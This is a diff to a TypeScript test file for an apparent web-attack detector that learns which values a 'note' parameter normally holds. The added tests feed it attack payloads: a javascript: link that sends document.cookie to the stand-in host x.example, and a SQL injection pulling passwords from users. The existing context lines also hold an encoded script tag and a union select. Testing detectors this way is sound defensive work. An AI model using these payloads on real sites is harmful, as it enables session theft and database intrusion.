@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks look like that
 import { describe, expect, test } from 'vitest';
 import type { Model } from '../../../baseline/model.ts';
 import { JudgementStage } from '../../../baseline/model.ts';
@@ -129,6 +130,46 @@ describe('attack patterns', () => {
     const hidden = Buffer.from('<script>alert(1)</script>').toString('base64');
     expect(hard(model, 3, { q: hidden })).toHaveLength(1);
     expect(hard(model, 3, { q: '%2527%2520union%2520select%25201' })).toHaveLength(1);
+  });
+});
+
+describe('a parameter that takes code', () => {
+  /** Every third value holds what an attack pattern matches: an editor of pages, from `clients` of them. */
+  const withCode = (clients: number) =>
+    learner.compile(
+      learned(3_000, (i) => {
+        const text = `${WORDS[i % 10]} ${WORDS[(i * 7) % 10]}`;
+        const html = `<p><a href="/${WORDS[(i * 3) % 10]}">${text}</a></p>`;
+        const note = i % 3 === 0 && i % 100 < clients ? html : text;
+        return { extra: [{ source: 'body', name: 'note', value: note }] };
+      }),
+      optionsOf(),
+    );
+  const noted = (m: Model, value: string) => score(m, request(1, { extra: [{ source: 'body', name: 'note', value }] }));
+
+  test('knows the shapes of that, and what is none of them', () => {
+    const m = withCode(100);
+    expect(noted(m, '<p><a href="/hat">shoe bag</a></p>')).toMatchObject({ findings: [], similarity: 1 });
+    expect(noted(m, '<p><a href="/hat">shoe bag</a></p>').surprise).toBeLessThan(0.5);
+    const attack = noted(m, '<p><a href="javascript:fetch(`//x.example/${document.cookie}`)">shoe</a></p>');
+    expect(attack.findings).toHaveLength(1);
+    expect(attack.surprise).toBeGreaterThan(1);
+    // Another family is nothing ordinary here.
+    expect(noted(m, "1' UNION SELECT password FROM users--").findings[0]!.hard).toBe(true);
+  });
+
+  test('says the same once loaded', () => {
+    const m = withCode(100);
+    const again = learner.load(entriesOf(m), symbols);
+    expect(entriesOf(again)).toEqual(entriesOf(m));
+    for (const value of ['<p><a href="/hat">shoe bag</a></p>', '<a href="javascript:alert(1)">']) {
+      expect(noted(again, value)).toEqual(noted(m, value));
+    }
+  });
+
+  test('is not made by a few clients: theirs are no hard finding, and stay odd', () => {
+    const evidence = noted(withCode(7), '<p><a href="/hat">shoe bag</a></p>');
+    expect(evidence.findings.map(({ hard }) => hard)).toEqual([false]);
   });
 });
 
